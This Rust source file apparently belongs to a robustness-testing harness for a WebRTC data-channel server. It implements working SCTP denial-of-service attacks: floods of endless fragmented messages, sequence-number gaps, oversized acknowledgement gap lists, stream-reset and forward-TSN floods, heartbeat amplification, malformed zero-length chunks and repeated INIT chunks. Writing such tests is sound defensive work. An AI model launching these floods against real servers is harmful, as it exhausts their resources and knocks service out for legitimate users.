//! Attacks by data channel: a participant's association, filled with what costs the receiver more
//! than the sender.

use std::time::Duration;

use crate::attack::craft::sctp::{BEGIN, DCEP, END, Packet, STRING, UNORDERED, channel_open, kind};
use crate::attack::pace::Pace;
use crate::attack::peer::{Association, RawPeer};
use crate::attack::{AttackError, Played, Stage};

/// Chunks of a packet that is full of the smallest ones.
const PER_PACKET: u32 = 60;
/// The stream of the one channel that an honest page has. Its first message, 0, is the one that
/// opened it.
const CHANNEL: u16 = 1;
/// As many bytes of payload as fit into a datagram.
const FULL: usize = 1100;

/// How long an attack goes on that is slow on purpose.
const TIME_TAKES_ITS_TOLL: Duration = Duration::from_secs(30);

/// A flood of packets of one association, each filled anew; ends early when the leg is ended.
pub(super) async fn flood(
    stage: &Stage,
    per_second: u32,
    mut fill: impl FnMut(&mut Association<'_>, Packet, u32) -> Packet,
) -> Result<Played, AttackError> {
    let peer = stage.peer().await?;
    let mut association = Association::begins(peer.wire()).await?;
    association.opens(CHANNEL)?;
    let sent = pour(&peer, association, stage.flood(per_second), &mut fill).await?;
    Ok(Played::by(peer, sent))
}

async fn pour(
    peer: &RawPeer,
    mut association: Association<'_>,
    mut pace: Pace,
    fill: &mut impl FnMut(&mut Association<'_>, Packet, u32) -> Packet,
) -> Result<u64, AttackError> {
    let mut sent = 0;
    while pace.goes_on().await && peer.leg_is_up() && !peer.wire().is_closed() {
        let packet = association.packet();
        let packet = fill(&mut association, packet, sent);
        association.sends(packet)?;
        sent += 1;
    }
    Ok(sent.into())
}

/// A message that is never whole, in fragments of one byte.
pub(super) async fn tiny_fragments(stage: &Stage) -> Result<Played, AttackError> {
    toll(stage, &mut |association, packet, sent| never_whole(association, packet, sent, b"x")).await
}

/// The same in fragments of no byte at all.
pub(super) async fn empty_fragments(stage: &Stage) -> Result<Played, AttackError> {
    toll(stage, &mut |association, packet, sent| never_whole(association, packet, sent, b"")).await
}

/// Packets of which each costs more than the one before: more than rates allow, until the time
/// that they take ends the leg.
async fn toll(
    stage: &Stage,
    fill: &mut impl FnMut(&mut Association<'_>, Packet, u32) -> Packet,
) -> Result<Played, AttackError> {
    let peer = stage.peer().await?;
    let mut association = Association::begins(peer.wire()).await?;
    association.opens(CHANNEL)?;
    let pace = stage.pace(1_000, TIME_TAKES_ITS_TOLL);
    let sent = pour(&peer, association, pace, fill).await?;
    Ok(Played::by(peer, sent))
}

/// The first packet begins the message: only then is its end looked for, every time.
fn never_whole(
    association: &mut Association<'_>,
    mut packet: Packet,
    sent: u32,
    payload: &[u8],
) -> Packet {
    for fragment in 0..PER_PACKET {
        let flags = if sent == 0 && fragment == 0 { BEGIN } else { 0 };
        packet = packet.data(flags, association.tsn(), (CHANNEL, 1), STRING, payload);
    }
    packet
}

/// Every second number left out: the receiver has to remember each gap.
pub(super) async fn gaps(stage: &Stage) -> Result<Played, AttackError> {
    flood(stage, 1_000, |association, mut packet, _| {
        for _ in 0..PER_PACKET {
            association.skips(1);
            packet = packet.data(BEGIN | END, association.tsn(), (CHANNEL, 1), STRING, b"x");
        }
        packet
    })
    .await
}

/// One number left out, and then no end of small messages that have to wait for it.
pub(super) async fn one_gap(stage: &Stage) -> Result<Played, AttackError> {
    toll(stage, &mut |association, mut packet, sent| {
        association.skips(u32::from(sent == 0));
        for _ in 0..PER_PACKET {
            let flags = BEGIN | END | UNORDERED;
            packet = packet.data(flags, association.tsn(), (CHANNEL, 0), STRING, b"x");
        }
        packet
    })
    .await
}

/// Just enough gaps that their list does not fit into a packet of the receiver's.
pub(super) async fn long_gap_list(stage: &Stage) -> Result<Played, AttackError> {
    let peer = stage.peer().await?;
    let mut association = Association::begins(peer.wire()).await?;
    association.opens(CHANNEL)?;
    let mut sent = 0;
    for _ in 0..12 {
        let mut packet = association.packet();
        for _ in 0..PER_PACKET {
            association.skips(1);
            packet = packet.data(BEGIN | END, association.tsn(), (CHANNEL, 1), STRING, b"x");
        }
        association.sends(packet)?;
        sent += 1;
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    Ok(Played::by(peer, sent))
}

/// Acknowledgements with hundreds of gaps in what was never sent.
pub(super) async fn acknowledged_gaps(stage: &Stage) -> Result<Played, AttackError> {
    flood(stage, 500, |association, packet, _| {
        const BLOCKS: u16 = 280;
        let mut value = Vec::new();
        value.extend(association.server_tsn().wrapping_sub(1).to_be_bytes());
        value.extend((1_u32 << 20).to_be_bytes());
        value.extend(BLOCKS.to_be_bytes());
        value.extend([0, 0]);
        for block in 1..=BLOCKS {
            value.extend((block * 3).to_be_bytes());
            value.extend((block * 3 + 1).to_be_bytes());
        }
        packet.chunk(kind::SACK, 0, &value)
    })
    .await
}

/// Full fragments with far jumps of their numbers, all to be kept.
pub(super) async fn far_jumps(stage: &Stage) -> Result<Played, AttackError> {
    let payload = vec![b'x'; FULL];
    flood(stage, 4_000, move |association, packet, _| {
        association.skips(1_000);
        packet.data(BEGIN, association.tsn(), (CHANNEL, 1), STRING, &payload)
    })
    .await
}

/// One channel after the other, on streams of their own.
pub(super) async fn channel_openings(stage: &Stage) -> Result<Played, AttackError> {
    flood(stage, 1_000, |association, packet, sent| {
        let stream = 3 + 2 * (sent as u16 % 30_000);
        packet.data(BEGIN | END, association.tsn(), (stream, 0), DCEP, &channel_open("more"))
    })
    .await
}

/// Three channels, one more than a page has.
pub(super) async fn a_third_channel(stage: &Stage) -> Result<Played, AttackError> {
    let peer = stage.peer().await?;
    let mut association = Association::begins(peer.wire()).await?;
    for stream in [1, 3, 5] {
        association.opens(stream)?;
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    Ok(Played::by(peer, 3))
}

/// A message without end, in full fragments.
pub(super) async fn endless_message(stage: &Stage) -> Result<Played, AttackError> {
    let payload = vec![b'x'; FULL];
    flood(stage, 1_000, move |association, packet, sent| {
        let flags = if sent == 0 { BEGIN } else { 0 };
        packet.data(flags, association.tsn(), (CHANNEL, 1), STRING, &payload)
    })
    .await
}

/// The beginnings of messages, on as many streams as there are.
pub(super) async fn partial_messages(stage: &Stage) -> Result<Played, AttackError> {
    let payload = vec![b'x'; FULL];
    flood(stage, 1_000, move |association, packet, sent| {
        let stream = 3 + 2 * (sent as u16 % 30_000);
        packet.data(BEGIN, association.tsn(), (stream, 0), STRING, &payload)
    })
    .await
}

/// Small whole messages on one channel, more than anybody types.
pub(super) async fn many_messages(stage: &Stage) -> Result<Played, AttackError> {
    flood(stage, 3_000, |association, packet, _| {
        packet.data(BEGIN | END | UNORDERED, association.tsn(), (CHANNEL, 0), STRING, b"hello?")
    })
    .await
}

/// The end of the association, without a goodbye.
pub(super) async fn abort(stage: &Stage) -> Result<Played, AttackError> {
    let peer = stage.peer().await?;
    let association = Association::begins(peer.wire()).await?;
    association.sends(association.packet().chunk(kind::ABORT, 0, &[]))?;
    tokio::time::sleep(Duration::from_millis(200)).await;
    Ok(Played::by(peer, 1))
}

/// Chunks that claim to be of no length, or of less than their own header.
pub(super) async fn chunks_of_no_length(stage: &Stage) -> Result<Played, AttackError> {
    flood(stage, 1_000, |_, mut packet, sent| {
        for chunk in 0..250_u32 {
            let length = ((sent + chunk) % 4) as u16;
            packet = packet.chunk_claiming(kind::DATA, 3, length, &[]);
        }
        packet
    })
    .await
}

/// Requests to reset every stream there could be.
pub(super) async fn stream_resets(stage: &Stage) -> Result<Played, AttackError> {
    flood(stage, 1_000, |association, packet, sent| {
        // Outgoing SSN reset request (RFC 6525, section 4.1).
        const STREAMS: u16 = 500;
        let mut value = vec![0, 13];
        value.extend((16 + 2 * STREAMS).to_be_bytes());
        value.extend((1000 + sent).to_be_bytes());
        value.extend(0_u32.to_be_bytes());
        value.extend(association.tsn().to_be_bytes());
        value.extend((0..STREAMS).flat_map(u16::to_be_bytes));
        packet.chunk(kind::RECONFIG, 0, &value)
    })
    .await
}

/// Numbers to be skipped, far ahead and on hundreds of streams.
pub(super) async fn skipped_numbers(stage: &Stage) -> Result<Played, AttackError> {
    flood(stage, 1_000, |association, packet, sent| {
        let ahead = if sent % 100 == 99 { 1 << 20 } else { 1 };
        let mut value = association.skips(ahead).wrapping_add(ahead).to_be_bytes().to_vec();
        for stream in 0..250_u16 {
            value.extend(stream.to_be_bytes());
            value.extend((sent as u16).to_be_bytes());
        }
        packet.chunk(kind::FORWARD_TSN, 0, &value)
    })
    .await
}

/// Questions whether the other end is there, each to be answered in full.
pub(super) async fn heartbeats(stage: &Stage) -> Result<Played, AttackError> {
    let mut information = vec![0, 1];
    information.extend((FULL as u16 + 4).to_be_bytes());
    information.extend(vec![b'?'; FULL]);
    flood(stage, 2_000, move |_, packet, _| packet.chunk(kind::HEARTBEAT, 0, &information)).await
}

/// A new association on top of the one that stands, again and again.
pub(super) async fn second_beginnings(stage: &Stage) -> Result<Played, AttackError> {
    flood(stage, 1_000, |_, _, sent| {
        let mut init = Vec::new();
        init.extend((0x1000 + sent).to_be_bytes());
        init.extend((1_u32 << 20).to_be_bytes());
        init.extend([0xff; 4]);
        init.extend(sent.to_be_bytes());
        Packet::tagged(0).chunk(kind::INIT, 0, &init)
    })
    .await
}
